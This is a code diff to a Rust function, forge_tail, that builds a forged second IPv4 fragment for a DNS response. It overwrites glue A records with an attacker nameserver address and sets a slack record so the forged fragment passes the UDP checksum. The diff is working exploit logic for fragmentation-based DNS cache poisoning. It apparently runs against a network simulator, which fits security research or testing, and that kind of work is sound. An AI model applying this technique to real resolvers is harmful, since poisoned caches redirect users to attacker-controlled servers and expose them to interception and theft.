@@ -21,7 +21,7 @@ use netsim::ipv4::{Ipv4Packet, IPV4_HEADER_LEN, PROTO_UDP};
 use netsim::udp::UDP_HEADER_LEN;
 
 use crate::checksum_fix::{fix_fragment_sum, FixError};
-use crate::wire_walk::{glue_spans, walk_records, RecordSpan};
+use crate::wire_walk::{walk_records, RecordSpan};
 
 /// Errors from fragment forging.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -132,47 +132,51 @@ pub fn forge_tail(
         return Err(ForgeError::ResponseTooSmall { len: udp_len + IPV4_HEADER_LEN, mtu });
     }
     let spans = walk_records(observed_dns).map_err(|_| ForgeError::Malformed)?;
-    // DNS byte offset d sits at IP-payload offset UDP_HEADER_LEN + d.
-    let in_tail = |offset: usize, len: usize| {
-        offset + UDP_HEADER_LEN >= split && offset + len <= observed_dns.len()
+    // DNS byte offset d sits at IP-payload offset UDP_HEADER_LEN + d, so
+    // the second fragment starts at DNS offset `tail_start`.
+    let tail_start = split - UDP_HEADER_LEN;
+    let is_target = |s: &&RecordSpan| {
+        s.is_glue()
+            && s.rdata_len == 4
+            && s.rdata_offset >= tail_start
+            && s.rdata_offset + s.rdata_len <= observed_dns.len()
     };
-    let glue: Vec<&RecordSpan> = glue_spans(&spans)
-        .into_iter()
-        .filter(|s| in_tail(s.rdata_offset, s.rdata_len) && s.rdata_len == 4)
-        .collect();
-    if glue.is_empty() {
+    let targets = spans.iter().filter(is_target).count();
+    if targets == 0 {
         return Err(ForgeError::NoGlueInTail);
     }
     // Slack: the last glue record whose RDATA starts at an even IP-payload
     // offset (fragment sums pair bytes from the even split boundary).
-    let slack =
-        glue.iter().rev().find(|s| (s.rdata_offset + UDP_HEADER_LEN).is_multiple_of(2)).copied();
+    let slack = spans
+        .iter()
+        .rev()
+        .filter(is_target)
+        .find(|s| (s.rdata_offset + UDP_HEADER_LEN).is_multiple_of(2));
     let Some(slack) = slack else {
         return Err(ForgeError::NoSlackCandidate);
     };
-    let mut modified = observed_dns.to_vec();
-    let mut poisoned = Vec::new();
-    for span in &glue {
+    // Work in fragment-2 coordinates.
+    let original_tail = &observed_dns[tail_start..];
+    let mut modified_tail = original_tail.to_vec();
+    let mut poisoned = Vec::with_capacity(targets - 1);
+    for span in spans.iter().filter(is_target) {
         if span.rdata_offset == slack.rdata_offset {
             continue;
         }
-        modified[span.rdata_offset..span.rdata_offset + 4].copy_from_slice(&attacker_ns.octets());
-        poisoned.push(span.name.clone());
+        let at = span.rdata_offset - tail_start;
+        modified_tail[at..at + 4].copy_from_slice(&attacker_ns.octets());
+        poisoned.push(span.name(observed_dns).map_err(|_| ForgeError::Malformed)?);
     }
     // Zero the slack address; the fix writes the equalising word into its
     // first two bytes (the remaining two stay zero).
-    modified[slack.rdata_offset..slack.rdata_offset + 4].copy_from_slice(&[0, 0, 0, 0]);
-    // Work in fragment-2 coordinates.
-    let tail_start_dns = split - UDP_HEADER_LEN; // first DNS byte in frag 2
-    let original_tail = &observed_dns[tail_start_dns..];
-    let mut modified_tail = modified[tail_start_dns..].to_vec();
-    let slack_in_tail = slack.rdata_offset - tail_start_dns;
+    let slack_in_tail = slack.rdata_offset - tail_start;
+    modified_tail[slack_in_tail..slack_in_tail + 4].fill(0);
     fix_fragment_sum(original_tail, &mut modified_tail, slack_in_tail)?;
     Ok(ForgedTail {
         split,
         payload: Bytes::from(modified_tail),
         poisoned_names: poisoned,
-        slack_name: Some(slack.name.clone()),
+        slack_name: Some(slack.name(observed_dns).map_err(|_| ForgeError::Malformed)?),
     })
 }
 
